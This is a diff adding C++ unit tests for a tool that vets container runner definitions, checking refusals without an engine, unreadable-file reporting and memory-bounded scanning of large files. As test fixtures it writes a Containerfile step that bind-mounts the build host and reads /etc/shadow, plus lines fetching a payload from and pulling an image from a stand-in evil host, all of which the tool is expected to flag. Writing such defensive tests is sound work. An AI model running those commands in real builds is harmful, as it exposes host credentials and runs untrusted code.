@@ -3,8 +3,10 @@
 // registry, URL spellings browsers follow, what the root hash covers, and
 // where `run` looks for runners/.
 #include <gtest/gtest.h>
+#include <unistd.h>
 
 #include <filesystem>
+#include <fstream>
 #include <set>
 
 #include "core/json.h"
@@ -101,6 +103,87 @@ TEST(BuildImages, AFileTheRegistryNamesAsDockerfileIsRead) {
       {"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
   EXPECT_EQ(res.exit_code, 1) << res.err;
   EXPECT_EQ(where(res.out), (Where{{"host.registry-not-allowed", "node-20/build.image:1"}})) << res.out;
+}
+
+// A definition that would be refused before any build (a step reaching the
+// build host, a directory too large) is refused by a check on a machine
+// without an engine too: the smoke gate reads every definition before it
+// looks for one (QA-49: such a runner passed, smoke SKIP).
+TEST(RunnerDefinitions, RefusalsThatNeedNoBuildNeedNoEngine) {
+  TempDir t;
+  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
+  const std::string cf = t / "repo/runners/node-20/Containerfile";
+  test::write_file(cf, "FROM node:20-slim\nRUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n");
+  // With the engines of this machine, and with none on PATH (the gate
+  // would skip): the refusal comes first either way.
+  for (const std::string env : {"", "PATH=/nonexistent "}) {
+    SCOPED_TRACE(env);
+    std::string out;
+    ASSERT_EQ(test::run_shell(env + test::shell_quote(test::gate_binary()) + " check --runners " +
+                                  test::shell_quote(t / "repo/runners") +
+                                  " --runner node-20 --gate GATE-V2-RUNNER-SMOKE-01 --format json 2>/dev/null",
+                              out),
+              1)
+        << out;
+    EXPECT_EQ(where(out), (Where{{"smoke.definition_invalid", "node-20/runner.yaml"}})) << out;
+    EXPECT_NE(out.find("Containerfile:2: `RUN --mount=type=bind,source=/,target=/host` reaches the build host"),
+              std::string::npos)
+        << out;
+  }
+}
+
+// The registry's dockerfile, there but unreadable: one finding saying so,
+// not "does not exist" and a base_image mismatch besides (QA-49). Run as
+// nobody when the test runs as root, who reads every file.
+TEST(RunnerDefinitions, AnUnreadableDefinitionIsOneFinding) {
+  TempDir t;
+  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
+  fs::create_directories(t / "bin");
+  fs::copy_file(test::gate_binary(), t / "bin/mplp-gate");
+  std::string out;
+  ASSERT_EQ(test::run_shell("chmod -R a+rX " + test::shell_quote(t.path()) + " && chmod 000 " +
+                                test::shell_quote(t / "repo/runners/node-20/Containerfile"),
+                            out),
+            0)
+      << out;
+  const std::string as = ::geteuid() == 0 ? "setpriv --reuid=65534 --regid=65534 --clear-groups " : "";
+  ASSERT_EQ(test::run_shell(as + test::shell_quote(t / "bin/mplp-gate") + " check --runners " +
+                                test::shell_quote(t / "repo/runners") +
+                                " --gate GATE-V2-SUBSTRATE-REGISTRY-01 --format json 2>/dev/null",
+                            out),
+            1)
+      << out;
+  Where found = where(out);
+  ASSERT_EQ(found.size(), 1u) << out;
+  EXPECT_EQ(found.begin()->first, "registry.dockerfile_missing") << out;
+  EXPECT_NE(out.find("cannot be read"), std::string::npos) << out;
+  EXPECT_NE(out.find("Permission denied"), std::string::npos) << out;
+  EXPECT_EQ(out.find("does not exist"), std::string::npos) << out;
+}
+
+// A large file of a runner directory is scanned in windows, as a pack's
+// is, never held (QA-49: a 1.5 GB file took 1.5 GB); a build definition too
+// large to parse is an error, never a pass.
+TEST(RunnerDefinitions, LargeFilesAreScannedWithoutBeingHeld) {
+  TempDir t;
+  test::copy_tree(test::fixture("substrate-registry/pass-basic"), t / "repo");
+  const std::string big = t / "repo/runners/node-20/data.bin";
+  { std::ofstream f(big); }
+  fs::resize_file(big, 200u << 20);  // sparse zeros
+  { std::ofstream(big, std::ios::app) << "\nfetch https://evil.example/payload\n"; }
+  auto res = run_tool_with({"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"},
+                           RunOptions{});
+  EXPECT_EQ(res.exit_code, 1) << res.err;
+  EXPECT_EQ(where(res.out), (Where{{"host.not-allowed", "node-20/data.bin:2:7"}})) << res.out;
+  EXPECT_LT(res.max_rss_kib, 96 * 1024) << "the file was held whole";
+  fs::remove(big);
+  const std::string cf = t / "repo/runners/node-20/Containerfile";
+  { std::ofstream(cf, std::ios::app) << std::string(17u << 20, '#') << "\nFROM evil.example/late:1\n"; }
+  auto large = run_tool_with(
+      {"check", "--runners", t / "repo/runners", "--gate", "GATE-V2-HOST-ALLOW-01", "--format", "json"}, RunOptions{});
+  EXPECT_EQ(large.exit_code, 1) << large.err;
+  EXPECT_EQ(where(large.out), (Where{{"host.unscanned", "node-20/Containerfile"}})) << large.out;
+  EXPECT_NE(large.out.find("not read for the images it pulls"), std::string::npos) << large.out;
 }
 
 // ---- point 11: a registry that fails its schema is not used
